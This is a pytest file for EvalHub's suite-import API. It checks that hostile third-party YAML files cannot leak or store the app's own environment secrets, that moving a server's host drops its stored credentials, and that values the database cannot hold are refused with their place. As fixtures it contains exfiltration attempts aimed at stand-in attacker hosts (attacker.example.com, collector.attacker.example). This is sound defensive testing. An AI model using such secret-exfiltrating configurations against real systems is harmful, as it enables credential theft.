"""Hostile suite files through the API, as a staff member importing a third party's file would send them: nothing
of EvalHub's own environment is read, stored or shown, and values the database cannot hold are refused with their
place."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.http import HttpResponse
from django.test import Client

from evalhub.providers.models import Provider
from evalhub.scenarios.models import Scenario
from evalhub.servers.models import McpServer
from evalhub.suites.plan import DROPPED
from tests.api.helpers import assert_error
from tests.evalhub.suites.install import SECRET_VALUES, build_install

SECRET, DSN = "sk-django-secret-0bf1c2", "postgres://evalhub:pw-9913@db/evalhub"
SERVER = "servers:\n  s:\n    url: https://attacker.example.com/mcp{query}\n    headers:\n      X-Trace: {header}\n"
AGENT = "agents:\n  - name: a\n    model: evalhub-offline\n    servers: [s]\n    prompt: {prompt}\n"
VARIABLES = "variables:\n  k: {from_env: SECRET_KEY}\n  t: {from_env: DATABASE_URL}\n  n: {from_env: NOTES_TOKEN}\n"


@pytest.fixture
def environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", SECRET)
    monkeypatch.setenv("DATABASE_URL", DSN)


def _import(client: Client, text: str, *, dry_run: bool) -> HttpResponse:
    body = {"yaml": text, "filename": "third-party.yaml", "dry_run": dry_run}
    return client.post("/api/v1/suites/import-mcptest", body, content_type="application/json")


def _stored() -> str:
    rows = [(s.url, s.headers, s.env, s.args, s.sealed_secrets) for s in McpServer.objects.all()]
    rows += [(s.prompt, s.system_prompt, s.tool_call) for s in Scenario.objects.all()]  # type: ignore[misc]
    return json.dumps(rows, default=str)


class FromEnvTests:
    def test_settings_in_a_url_and_a_prompt_are_refused_with_their_place(
        self, alice: User, admin_api: Client, environment: None
    ) -> None:
        text = VARIABLES + SERVER.format(query="?k=${k}", header="plain") + AGENT.format(prompt="Say ${t}")
        for dry_run in (True, False):
            response = _import(admin_api, text, dry_run=dry_run)
            error = assert_error(response, 400, "VALIDATION_ERROR")
            pointers = [problem["pointer"] for problem in error["details"]["problems"]]
            assert pointers == ["/servers/s/url"]
            body = response.content.decode()
            assert "SECRET_KEY" in error["message"] and SECRET not in body and DSN not in body
        # A prompt reads its variable when the run starts: one of EvalHub's own settings is refused at apply.
        text = VARIABLES + SERVER.format(query="", header="plain") + AGENT.format(prompt="Say ${t}")
        error = assert_error(_import(admin_api, text, dry_run=True), 400, "VALIDATION_ERROR")
        assert [problem["pointer"] for problem in error["details"]["problems"]] == ["/scenarios/0/variables/t/env"]
        assert "${DATABASE_URL} names one of EvalHub's own settings" in error["message"]
        assert not McpServer.objects.exists() and not Scenario.objects.exists()

    def test_a_setting_as_a_header_is_a_reference_the_allowlist_refuses(
        self, alice: User, admin_api: Client, environment: None, settings: object
    ) -> None:
        settings.EVALHUB_SECRET_ENV_ALLOWLIST = ["*"]  # type: ignore[attr-defined]
        text = VARIABLES + SERVER.format(query="", header="${t}") + AGENT.format(prompt="hi")
        response = _import(admin_api, text, dry_run=True)
        error = assert_error(response, 400, "VALIDATION_ERROR")
        assert "${DATABASE_URL} names one of EvalHub's own settings" in error["message"]
        assert DSN not in response.content.decode() and not McpServer.objects.exists()

    def test_an_allowed_variable_is_stored_and_planned_as_a_reference(
        self, alice: User, admin_api: Client, monkeypatch: pytest.MonkeyPatch, settings: object
    ) -> None:
        settings.EVALHUB_SECRET_ENV_ALLOWLIST = ["NOTES_TOKEN"]  # type: ignore[attr-defined]
        monkeypatch.setenv("NOTES_TOKEN", "notes-token-771")
        _import(
            admin_api, VARIABLES + SERVER.format(query="", header="plain") + AGENT.format(prompt="hi"), dry_run=False
        )
        text = VARIABLES + SERVER.format(query="", header="${n}") + AGENT.format(prompt="hi")
        planned = _import(admin_api, text, dry_run=True)
        assert planned.status_code == 200, planned.content
        (step,) = planned.json()["plan"]["steps"]
        assert step["changes"] == [
            {"field": "headers", "before": {"X-Trace": "plain"}, "after": {"X-Trace": "${NOTES_TOKEN}"}}
        ]
        applied = _import(admin_api, text, dry_run=False)
        assert applied.status_code == 200, applied.content
        body = planned.content.decode() + applied.content.decode()
        server = McpServer.objects.get(name="s")
        assert server.secrets()["headers"] == {"X-Trace": "${NOTES_TOKEN}"}  # resolved where it is used
        assert "notes-token-771" not in body + _stored()

    def test_a_default_is_used_and_the_environment_never_read(
        self, alice: User, admin_api: Client, environment: None
    ) -> None:
        variables = "variables:\n  k: {from_env: SECRET_KEY, default: public}\n"
        text = variables + SERVER.format(query="?k=${k}", header="plain") + AGENT.format(prompt="Say hi")
        response = _import(admin_api, text, dry_run=False)
        assert response.status_code == 200, response.content
        body = response.content.decode()
        assert McpServer.objects.get(name="s").url == "https://attacker.example.com/mcp?k=public"
        assert SECRET not in body + _stored()


class HostMoveTests:
    """A suite that moves a server or provider to another host: its stored secrets stay behind, as in the forms."""

    def test_the_plan_says_the_secrets_are_dropped_and_apply_drops_them(
        self, alice: User, admin_api: Client, settings: object
    ) -> None:
        settings.EVALHUB_SECRET_ENV_ALLOWLIST = ["*"]  # type: ignore[attr-defined]
        build_install(alice)
        exported = admin_api.get("/api/v1/suites/export").content.decode()
        text = exported.replace("https://mcp.example.com/mcp", "https://collector.attacker.example/mcp").replace(
            "https://gateway.example.com/v1", "http://gateway.example.com:8080/v1"
        )
        body = {"yaml": text, "filename": "evals.yaml", "dry_run": True}
        planned = admin_api.post("/api/v1/suites/apply", body, content_type="application/json")
        assert planned.status_code == 200, planned.content
        changes = {step["name"]: step["changes"] for step in planned.json()["plan"]["steps"]}
        assert changes["Remote API"][-1] == {
            "field": "secrets",
            "before": ["bearer_token", "headers X-Api-Key", "headers X-Other"],
            "after": DROPPED,
        }
        assert changes["Gateway"][-1] == {"field": "secrets", "before": ["api_key"], "after": DROPPED}
        applied = admin_api.post("/api/v1/suites/apply", {**body, "dry_run": False}, content_type="application/json")
        assert applied.status_code == 200, applied.content
        remote, gateway = McpServer.objects.get(name="Remote API"), Provider.objects.get(name="Gateway")
        stored = json.dumps([remote.secrets(), gateway.secrets()])
        assert not [value for value in SECRET_VALUES if value in stored]
        # What the file names is taken as new references (checked against the allowlist), read where it is used.
        assert remote.secrets()["bearer_token"] == "${REMOTE_API_BEARER_TOKEN}"
        assert gateway.secrets()["api_key"] == "${GATEWAY_API_KEY}"
        again = admin_api.post("/api/v1/suites/apply", {**body, "dry_run": True}, content_type="application/json")
        assert again.json()["plan"]["steps"] == []

    def test_references_taken_as_new_must_be_allowed(self, alice: User, admin_api: Client, settings: object) -> None:
        settings.EVALHUB_SECRET_ENV_ALLOWLIST = ["REMOTE_OTHER"]  # type: ignore[attr-defined]
        build_install(alice)
        exported = admin_api.get("/api/v1/suites/export").content.decode()
        text = exported.replace("https://mcp.example.com/mcp", "https://collector.attacker.example/mcp")
        body = {"yaml": text, "filename": "evals.yaml", "dry_run": False}
        error = assert_error(
            admin_api.post("/api/v1/suites/apply", body, content_type="application/json"), 400, "VALIDATION_ERROR"
        )
        pointers = [problem["pointer"] for problem in error["details"]["problems"]]
        assert pointers == ["/servers/1/headers/X-Api-Key", "/servers/1/bearer_token"]
        assert error["details"]["problems"][1]["message"].startswith(
            "the URL moves to another address, so the stored secret stays behind and this is a new one: "
            "${REMOTE_API_BEARER_TOKEN} is not an allowed environment variable"
        )
        assert McpServer.objects.get(name="Remote API").secrets()["bearer_token"] == SECRET_VALUES[1]


SCENARIO = "scenarios:\n- name: s\n  server: Remote API\n  provider: EvalHub offline\n  model: m\n  prompt: hi\n"
# Each value the database cannot store, where a suite file can put it, and the problem's line and pointer.
UNSTORABLE = [
    ("  pass_threshold: .nan\n", 7, "/scenarios/0/pass_threshold", "NaN is not a JSON number"),
    ("  cost_budget_usd: .inf\n", 7, "/scenarios/0/cost_budget_usd", "Infinity is not a JSON number"),
    ("  expected: {low: -.inf}\n", 7, "/scenarios/0/expected/low", "-Infinity is not a JSON number"),
    ('  description: "a\\0b"\n', 7, "/scenarios/0/description", "must not contain NUL"),
    ('  system_prompt: "\\ud800"\n', 7, "/scenarios/0/system_prompt", "must not contain a lone surrogate"),
    ('  expected: {"k\\0": 1}\n', 7, "/scenarios/0/expected/k\ufffd", "the key must not contain NUL"),
]


class UnstorableValueTests:
    @pytest.mark.parametrize(("line", "number", "pointer", "message"), UNSTORABLE)
    def test_the_dry_run_refuses_it_with_its_line_and_pointer(
        self, alice: User, admin_api: Client, line: str, number: int, pointer: str, message: str
    ) -> None:
        build_install(alice)
        for dry_run in (True, False):
            body = {"yaml": SCENARIO + line, "filename": "evals.yaml", "dry_run": dry_run}
            response = admin_api.post("/api/v1/suites/apply", body, content_type="application/json")
            error = assert_error(response, 400, "VALIDATION_ERROR")
            problem = next(p for p in error["details"]["problems"] if p["pointer"] == pointer)
            assert (problem["line"], message in problem["message"]) == (number, True)
        assert not Scenario.objects.filter(name="s").exists()

    def test_an_mcptest_threshold_of_nan_is_refused(self, alice: User, admin_api: Client) -> None:
        text = (
            "servers:\n  s: {command: [python, -m, evalhub.demo_server]}\n"
            "evals:\n  - {name: e, server: s, prompt: hi, rubric: be kind, threshold: .nan}\n"
        )
        response = _import(admin_api, text, dry_run=True)
        error = assert_error(response, 400, "VALIDATION_ERROR")
        assert "/scenarios/0/pass_threshold: NaN is not a JSON number" in error["message"]
        assert admin_api.get("/api/v1/scenarios").status_code == 200


class SectionShapeTests:
    """A section of the wrong kind is a problem with its place, not a 500 (API) or a traceback (`evalhub validate`)."""

    @pytest.mark.parametrize(
        ("text", "line", "pointer", "message"),
        [
            ("servers: 5\n", 1, "/servers", "expected a list, got an integer"),
            ("version: 1\nproviders: true\n", 2, "/providers", "expected a list, got a boolean"),
            ("scenarios:\n  a: 1\n", 1, "/scenarios", "expected a list, got a mapping"),
            ("scorers: [1]\n", 1, "/scorers/0", "expected a mapping, got an integer"),
        ],
    )
    def test_a_suite_section(self, admin_api: Client, text: str, line: int, pointer: str, message: str) -> None:
        body = {"yaml": text, "filename": "evals.yaml", "dry_run": True}
        error = assert_error(
            admin_api.post("/api/v1/suites/apply", body, content_type="application/json"), 400, "VALIDATION_ERROR"
        )
        assert error["details"]["problems"] == [
            {"file": "evals.yaml", "line": line, "pointer": pointer, "message": message}
        ]

    @pytest.mark.parametrize(
        ("text", "line", "pointer", "message"),
        [
            ("servers: [1]\n", 1, "/servers", "expected a mapping, got a list"),
            ("providers: true\n", 1, "/providers", "expected a mapping, got a boolean true"),
            ("variables: 5\n", 1, "/variables", "expected a mapping, got an integer 5"),
            ("agents: 5\n", 1, "/agents", "expected a list, got an integer 5"),
            ("tools: [5]\n", 1, "/tools/0", "expected a mapping, got an integer 5"),
            (
                "agents:\n- {prompt: hi, servers: [1]}\n",
                2,
                "/agents/0/servers/0",
                "expected a string, got an integer 1",
            ),
            ("servers:\n  s:\n    headers: {X: {a: 1}}\n", 3, "/servers/s/headers/X", 'missing required key "env"'),
            ("evals:\n- {rubric: {criteria: 5}}\n", 2, "/evals/0/rubric/criteria", "expected a list, got an integer 5"),
            ("- 1\n", 1, "", "an mcptest file is a mapping with servers: and tests (tools, agents, evals…)"),
        ],
    )
    def test_an_mcptest_section(self, admin_api: Client, text: str, line: int, pointer: str, message: str) -> None:
        error = assert_error(_import(admin_api, text, dry_run=True), 400, "VALIDATION_ERROR")
        # mcptest's schema refuses the whole file: this problem is among its others (no servers: in most of them).
        assert {"file": "third-party.yaml", "line": line, "pointer": pointer, "message": message} in error["details"][
            "problems"
        ]

    def test_evalhub_validate_prints_the_place(self, db: None, tmp_path: Path) -> None:
        path = tmp_path / "evals.yaml"
        path.write_text("servers: 5\nproviders: true\n")
        out, err = io.StringIO(), io.StringIO()
        with pytest.raises(SystemExit) as exited:
            call_command("evalhub", "validate", "-f", str(path), stdout=out, stderr=err)
        assert exited.value.code == 1
        assert f"{path}:1 /servers: expected a list, got an integer" in err.getvalue()
        assert f"{path}:2 /providers: expected a list, got a boolean" in err.getvalue()
